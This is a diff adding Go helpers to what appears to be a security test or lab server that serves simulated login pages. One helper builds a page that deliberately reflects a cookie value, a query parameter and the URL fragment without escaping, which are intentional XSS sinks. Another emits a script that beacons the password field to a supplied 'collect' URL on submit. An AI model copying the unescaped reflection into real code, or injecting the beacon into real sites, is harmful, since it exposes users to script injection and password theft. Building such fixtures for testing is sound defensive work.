@@ -208,6 +208,30 @@ $("login").addEventListener("submit", async (e) => {
 });
 </script>`
 
+// reflected is what "reflect"'s login page echoes, unescaped: its cookie
+// banner (read from the header as a naive server would), its query
+// parameter msg, and, by a script, its fragment.
+func reflected(r *http.Request) string {
+	banner := ""
+	for _, kv := range strings.Split(r.Header.Get("Cookie"), ";") {
+		if v, ok := strings.CutPrefix(strings.TrimSpace(kv), "banner="); ok {
+			banner = v
+		}
+	}
+	return `<div id=banner>` + banner + `</div><div id=msg>` + r.URL.Query().Get("msg") + `</div><div id=note></div>
+<script>document.getElementById("note").innerHTML = decodeURIComponent(location.hash.slice(1));</script>`
+}
+
+// beaconScript sends the password field's value to collect as the login
+// form is submitted.
+func beaconScript(collect string) string {
+	return `<script>
+document.getElementById("login").addEventListener("submit", () => {
+  navigator.sendBeacon(` + "`" + collect + "`" + `, document.getElementById("pw").value);
+});
+</script>`
+}
+
 // authorizePage is the IdP's login form; the OAuth parameters ride along
 // in hidden fields.
 func authorizePage(client, state, redirect, msg string) string {
